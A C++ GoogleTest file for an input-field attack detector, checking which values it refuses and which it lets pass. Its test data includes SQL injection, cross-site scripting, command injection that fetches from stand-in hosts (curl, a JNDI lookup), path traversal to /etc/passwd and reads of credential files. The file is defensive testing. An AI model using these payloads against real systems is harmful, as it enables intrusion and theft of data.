#include "gate/inspect/field/field.h"

#include <gtest/gtest.h>

#include <ctime>
#include <string>
#include <string_view>

namespace gatehouse::field {
namespace {

bool Refused(std::string_view text, Mode mode = Mode::kBalanced) { return JudgeField(text).score >= Threshold(mode); }
Family FamilyOf(std::string_view text) { return Refused(text) ? JudgeField(text).family : Family::kNone; }

TEST(FieldA12, RefusesWhatWouldBeSql) {
  for (const std::string_view text :
       {"1 or 1=1", "' or 'a'='a", "\" or \"1\"=\"1\" --", "1 union select name, password from users",
        "x'; drop table users; --", "admin' --", "1) and (select 1 from dual)=1", "'||(select version())||'",
        "1; waitfor delay '0:0:5'", "1 and sleep(5)", "' order by 7#", "1/**/union/**/select/**/2",
        "1 UnIoN/*!50000SeLeCt*/ 2", "%27%20or%201%3D1--", "%2527%2520or%25201%253D1--", "1 having 1=1",
        "' and extractvalue(1, concat(0x7e, version()))='", "case when 1=1 then 2 end",
        "-1' union all select null,null#"}) {
    EXPECT_EQ(FamilyOf(text), Family::kSql) << text << " " << JudgeField(text).score;
  }
}

TEST(FieldA12, LetsProseAboutSqlPass) {
  for (const std::string_view text : {"Please select an option from the list",
                                      "Western Union: select a branch",
                                      "rock 'n' roll",
                                      "O'Brien",
                                      "it's 5 o'clock and I'm late",
                                      "the union selected a few friends",
                                      "drop me a line",
                                      "2 or 4 metal buttons",
                                      "order by 5pm",
                                      "1/4\"-1/2\" wide ribbon",
                                      "\"wood\" and \"sign\" and \"polka dots\"",
                                      "call me back; update the ticket",
                                      "Create table for guests",
                                      "select all that apply",
                                      "AT&T, R&D and Q&A",
                                      "C# and F#",
                                      "70\" TV -- great picture",
                                      "salt and pepper (1=sweet)",
                                      "insert coin; delete nothing",
                                      "Robert'); he said",
                                      "where is my order?",
                                      "Johnson & Johnson's",
                                      "the boys' and girls' rooms"}) {
    EXPECT_FALSE(Refused(text)) << text << " " << JudgeField(text).signal << " " << JudgeField(text).score;
  }
}

TEST(FieldC9A12, RefusesWhatABrowserWouldRun) {
  for (const std::string_view text :
       {"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\" autofocus onfocus=alert(1) x=\"",
        "javascript:alert(1)", "<a href=\"java&#x73;cript:alert(1)\">", "<a href='&#106;avascript&colon;x()'>",
        "<svg/onload=alert(1)>", "</script><b>", "<iframe src=//example.com>", "%3Cscript%3Ealert(1)%3C/script%3E",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "<div style=\"width:expression(alert(1))\">", "\\x3cscript\\x3e",
        "\xEF\xBC\x9Cscript\xEF\xBC\x9E", "';alert(1)//", "<!ENTITY x SYSTEM \"file:///a\">"}) {
    EXPECT_EQ(FamilyOf(text), Family::kMarkup) << text << " " << JudgeField(text).score;
  }
}

TEST(FieldC9A12, LetsPlainMarkupPass) {
  for (const std::string_view text :
       {"<b>bold</b> and <i>italic</i>", "<a href=\"/teams/\">teams</a>", "if a < b and c > d", "I <3 you", "x <= 5",
        "<p class=\"note\">text</p>", "mail me <anna@example.org>", "the script was prompt (and short)",
        "JavaScript: the good parts", "on = off", "tea &amp; biscuits", "<br/>", "online = true",
        "price: 5 < 10 (confirm by mail)"}) {
    EXPECT_FALSE(Refused(text)) << text << " " << JudgeField(text).signal << " " << JudgeField(text).score;
  }
}

TEST(FieldA12, RefusesCommands) {
  for (const std::string_view text : {"; cat /etc/hosts",
                                      "| whoami",
                                      "&& ls -la",
                                      "`id`",
                                      "$(curl http://a.example/x)",
                                      "x; ping -c 3 127.0.0.1",
                                      "() { :;}; echo x",
                                      "system('id');",
                                      "<!--#exec cmd=\"id\"-->",
                                      "<?php phpinfo(); ?>",
                                      "${jndi:ldap://a.example/x}",
                                      "{{7*7}}",
                                      "a\n/bin/cat /tmp/x",
                                      "%0a id %0a",
                                      "& type C:\\x.txt",
                                      "& netsh firewall set opmode disable",
                                      "| reg add HKLM\\x /v y /d 0",
                                      "| sysinfo",
                                      "; c'a't /etc/hosts",
                                      "|/?i?/c?t /tmp/x",
                                      "curl${IFS}http://a.example"}) {
    EXPECT_EQ(FamilyOf(text), Family::kCommand) << text << " " << JudgeField(text).score;
  }
}

TEST(FieldA12, LetsProseWithSeparatorsPass) {
  for (const std::string_view text :
       {"salt & pepper", "milk; eggs; bread", "name; type A", "Tom & Sort Ltd.", "either | or", "a=1&id=2&sort=name",
        "costs $(5)", "use `code` here", "echo chamber", "cat and dog", "find me; less is more", "zsh is the best!",
        "nc 8000 controller", "first line\nType: B\nDate: today", "{\"type\": \"a\",\n \"set\": 1}",
        "Dear {{name}},"}) {
    EXPECT_FALSE(Refused(text)) << text << " " << JudgeField(text).signal << " " << JudgeField(text).score;
  }
}

TEST(FieldB8A12, RefusesPathsOutOfTheirFolder) {
  for (const std::string_view text : {"../../etc/passwd", "..\\..\\boot.ini", "%2e%2e%2f%2e%2e%2fetc/passwd",
                                      "%252e%252e%252fetc", "..%c0%af..%c0%afetc", "/etc/passwd", "....//....//etc",
                                      "file:///etc/hosts", "php://filter/convert.base64-encode/resource=index",
                                      "a.txt%00.jpg", "..;/..;/admin", "Li4vLi4vLi4vZXRjL3Bhc3N3ZA==",
                                      "%u002e%u002e%u2215%u002e%u002e%u2215x", "/var/log/messages.log", "a/../../b"}) {
    EXPECT_EQ(FamilyOf(text), Family::kPath) << text << " " << JudgeField(text).score;
  }
}

TEST(FieldB8A12, LetsOrdinaryPathsPass) {
  for (const std::string_view text : {"docs/readme.md", "/products/42", "wait... what?", "and/or", "1/2", "v1.2.3",
                                      "a/./b", "https://example.org/a/b?c=d", "..", "photo.jpg", "À bientôt",
                                      "see /etc/hosts on your machine, please", "%C0%20bient%F4t", "3...2...1"}) {
    EXPECT_FALSE(Refused(text)) << text << " " << JudgeField(text).signal << " " << JudgeField(text).score;
  }
}

// Browsers, desktop programs, phones, build servers and settings of devices send such values.
TEST(FieldB8A12, LetsAbsolutePathsOfPeopleAndProgramsPass) {
  for (const std::string_view text : {R"(C:\Users\anna\notes.txt)",
                                      R"(C:\fakepath\photo.jpg)",
                                      R"(C:\Users\anna\AppData\Local\Temp\setup.log)",
                                      R"(C:\Windows\Fonts\arial.ttf)",
                                      R"(\\server\share\plan.xlsx)",
                                      "/home/anna/notes.txt",
                                      "/home/runner/work/repo/a.c",
                                      "/Users/anna/Documents/thesis.docx",
                                      "/Volumes/USB/photos",
                                      "/mnt/c/Users/anna/config.ini",
                                      "/tmp/upload-1.csv",
                                      "/storage/emulated/0/DCIM/IMG_1.jpg",
                                      "/private/var/mobile/Containers/a.jpg",
                                      "/bin/bash",
                                      "/usr/bin/python3",
                                      "/opt/shop/bin/start",
                                      "/dev/ttyUSB0",
                                      "/srv/www/shop",
                                      "/library/books",
                                      "/config",
                                      "/server/status"}) {
    EXPECT_FALSE(Refused(text)) << text << " " << JudgeField(text).signal << " " << JudgeField(text).score;
  }
}

TEST(FieldB8A12, RefusesFilesWithSettingsAndKeysInFoldersOfPeople) {
  for (const std::string_view text :
       {"/home/anna/.ssh/config", "/home/anna/.aws/credentials", R"(C:\Users\anna\NTUSER.DAT)",
        "/home/anna/.bash_history", "/home/anna/../ben/notes.txt", R"(C:\Users\anna\..\..\secret.txt)",
        "/home/shop/.env", "/opt/apache/conf/httpd.conf", "/tmp/sess_4f2a", "/usr/local/etc/pureftpd.pdb", "/etc/hosts",
        R"(C:\Windows\System32\config\SAM)"}) {
    EXPECT_EQ(FamilyOf(text), Family::kPath) << text << " " << JudgeField(text).score;
  }
  for (const std::string_view text : {"/bin/bash -c id", ";/bin/bash", "x | /usr/bin/id", "`/bin/sh`"}) {
    EXPECT_EQ(FamilyOf(text), Family::kCommand) << text << " " << JudgeField(text).score;
  }
}

TEST(FieldA12, RefusesOperatorsOfOtherQueries) {
  for (const std::string_view text : {"{\"$ne\": 1}", "{ $gt: '' }", "1, $where: '1 == 1'", "*)(uid=*))(|(uid=*",
                                      "*(|(mail=*))", "x', $or: [ {}, { 'a':'a"}) {
    EXPECT_EQ(FamilyOf(text), Family::kSql) << text << " " << JudgeField(text).score;
  }
  for (const std::string_view text :
       {"$5 or $10", "cost: $in", "{\"price\": \"$gt\"}", "f(x)(y)", "note (cn=*)", "a * (b + c)"}) {
    EXPECT_FALSE(Refused(text)) << text << " " << JudgeField(text).signal;
  }
}

TEST(FieldA12, CodeInASentenceIsNoCommandSubstitution) {
  EXPECT_FALSE(Refused("Run `make` and then `make install` to build it"));
  EXPECT_FALSE(Refused("```python\nprint(1)\n```"));
  EXPECT_TRUE(Refused("`whoami`"));
  EXPECT_TRUE(Refused("ping please `whoami`.a.example now"));
  EXPECT_TRUE(Refused("a name with x`whoami` in it"));
}

TEST(FieldA12, CodeInASentenceOfAnyScriptIsNoCommandSubstitution) {
  EXPECT_FALSE(Refused("Сообщения `system` меняют настройки модели"));
  EXPECT_FALSE(Refused("Η εντολή `mount` δείχνει τους δίσκους"));
  EXPECT_TRUE(Refused("имя`id`"));
}

TEST(FieldA12, CellsOfATableAreNoCommands) {
  EXPECT_FALSE(Refused("| Field | Type | Use |\n|---|---|---|\n| id | text | Sort | \n"));
  EXPECT_TRUE(Refused("| Field | cat /etc/hosts | Use |"));
  EXPECT_TRUE(Refused("a | sort | sh"));
}

TEST(FieldA12, VariablesThatAreNotSetHideABlank) { EXPECT_EQ(FamilyOf("; cat$u /tmp$u/x$u"), Family::kCommand); }

TEST(FieldA12, NamesOfColumnsInAProgramAreNoSchema) {
  EXPECT_FALSE(Refused("row[\"table_name\"] = make(table_name, \"x\")"));
  EXPECT_EQ(FamilyOf("1' union select table_name from x--"), Family::kSql);
}

TEST(FieldA12, RefusesSqlThatWaitsOrBreaksOutOfTheNameOfAColumn) {
  for (const std::string_view text : {"1;begin user_lock.sleep(3); end--", "name` where 4=4 or 5=(select 5)#",
                                      "1\");iif(4=4,1,1/0)", "id` and sleep(2)-- "}) {
    EXPECT_EQ(FamilyOf(text), Family::kSql) << text << " " << JudgeField(text).score;
  }
  EXPECT_FALSE(Refused("Sort by `name` or by `age`, but not by both"));
  EXPECT_FALSE(Refused("the ` key is above Tab"));
}

TEST(FieldC9A12, RefusesFunctionsOfAProbeThatAreHandedOn) {
  for (const std::string_view text : {"[7].map(confirm)", "(alert)(7)", "[].sort.call`${alert}7`"}) {
    EXPECT_EQ(FamilyOf(text), Family::kMarkup) << text;
  }
  EXPECT_FALSE(Refused("a small window (alert) appears"));
  EXPECT_FALSE(Refused("use window.confirm (prompt) here"));
}

// As JSON libraries write text in ASCII.
TEST(FieldB8A12, EscapedLettersAreNoPath) {
  EXPECT_FALSE(Refused(R"({"name": "O\u2019Hara \uff21\uff22"})"));
  EXPECT_EQ(FamilyOf(R"(\u2024\u2024\u2215etc)"), FamilyOf("../etc"));
  EXPECT_TRUE(Refused("..%u2215..%u2215etc"));
}

TEST(FieldB8A12, LinksOfMarkdownAreNoPath) {
  EXPECT_FALSE(Refused("See ![the plan](../../img/plan.png) and [the page](../a/b.md)."));
  EXPECT_TRUE(Refused("See [it](../../../etc/passwd)"));
  EXPECT_TRUE(Refused("[x](../../%2e%2e/y)"));
  EXPECT_TRUE(Refused("../../img/plan.png"));
}

TEST(FieldB8A12, ABlankAtTheEndOrInAFolderOfWindowsHidesNoPath) {
  EXPECT_EQ(FamilyOf("/apache/logs/access.log "), Family::kPath);
  EXPECT_EQ(FamilyOf("/Program Files/web/conf/httpd.conf"), Family::kPath);
  EXPECT_FALSE(Refused("C:/Program Files/Paint/paint.exe"));
}

TEST(FieldA12, ABackslashEscapesAQuoteOnlyInSomeDatabases) {
  EXPECT_EQ(FamilyOf("\\' or 1=1 --"), Family::kSql);      // elsewhere
  EXPECT_EQ(FamilyOf("a\\'b' or 1=1 -- "), Family::kSql);  // in MySQL
  EXPECT_FALSE(Refused("it\\'s fine, isn\\'t it?"));
}

TEST(FieldA12, RefusesLinesOfHeaders) {
  EXPECT_EQ(FamilyOf("x\r\nSet-Cookie: a=b"), Family::kHeader);
  EXPECT_EQ(FamilyOf("x%0d%0aLocation: //example.com"), Family::kHeader);
  EXPECT_FALSE(Refused("first line\r\nsecond line"));
}

TEST(FieldA12, LooksOnlyForWhatItIsAskedFor) {
  EXPECT_LT(JudgeField("1 or 1=1", BitOf(Family::kMarkup)).score, kSuspect);
  EXPECT_GE(JudgeField("1 or 1=1", BitOf(Family::kSql)).score, kRefuse);
  EXPECT_EQ(FamilyNamed("sql"), Family::kSql);
  EXPECT_EQ(FamilyNamed("sqll"), Family::kNone);
}

TEST(FieldA12, StrictRefusesTheSuspectToo) {
  EXPECT_FALSE(Refused("sleep 10"));
  EXPECT_TRUE(Refused("sleep 10", Mode::kStrict));
}

std::string Row(std::string_view piece, size_t bytes) {
  std::string text;
  while (text.size() < bytes) text += piece;
  return text;
}

// Of the processor: other work on the machine does not count.
double SecondsToJudge(const std::string& text) {
  const std::clock_t begin = std::clock();
  (void)JudgeField(text);
  return static_cast<double>(std::clock() - begin) / CLOCKS_PER_SEC;
}

// Whether one of three runs takes less: other work empties the caches, and so costs time here.
bool TakesLess(const std::string& text, double seconds) {
  for (int run = 0; run < 3; ++run) {
    if (SecondsToJudge(text) < seconds) return true;
  }
  return false;
}

// Texts that make each byte look like the beginning of something: four times the text takes four times the work, where
// a quadratic reader would take sixteen.
TEST(FieldA12, WorkIsBoundedForEveryText) {
  constexpr size_t kBytes = 48'000;
  constexpr double kAnyText = 0.02;  // seconds, that are not looked at
  for (const std::string_view piece : {"<a b=",
                                       "<",
                                       "[",
                                       "(((",
                                       "&f(",
                                       "'\"",
                                       "@ ",
                                       "\r\n",
                                       "; ",
                                       "{",
                                       "1+",
                                       "select ",
                                       "%2525",
                                       "&#65;",
                                       "or 1 ",
                                       "x' or ",
                                       "<a b='<c d=\"",
                                       "--\n",
                                       "/*",
                                       "$ne:",
                                       "*(|(a=*",
                                       "'+'",
                                       "top[",
                                       "\\65",
                                       "`make ",
                                       "`",
                                       "..",
                                       "`id ",
                                       "<!--",
                                       "cat |",
                                       "<a#style=",
                                       "style=<U&'",
                                       "<x:y z=",
                                       "<a:b>",
                                       "eval(",
                                       "sleep(",
                                       "{{",
                                       "'a'||",
                                       "a|b|",
                                       "$(a "}) {
    const double once = SecondsToJudge(Row(piece, kBytes));
    EXPECT_TRUE(TakesLess(Row(piece, 4 * kBytes), 8 * once + kAnyText)) << piece;
  }
}

TEST(FieldA12, BytesThatAreNoTextAreJudgedLikeOthers) {
  (void)JudgeField({});
  std::string all;
  for (int c = 0; c < 256; ++c) all += static_cast<char>(c);
  EXPECT_TRUE(Refused(all));  // it holds a NUL
  (void)JudgeField("\xFF\xFE\xED\xA0\x80\xF4\x90");
  (void)JudgeField("&#xFFFFFFFFFFFFFFFF;%u%%");
}

}  // namespace
}  // namespace gatehouse::field
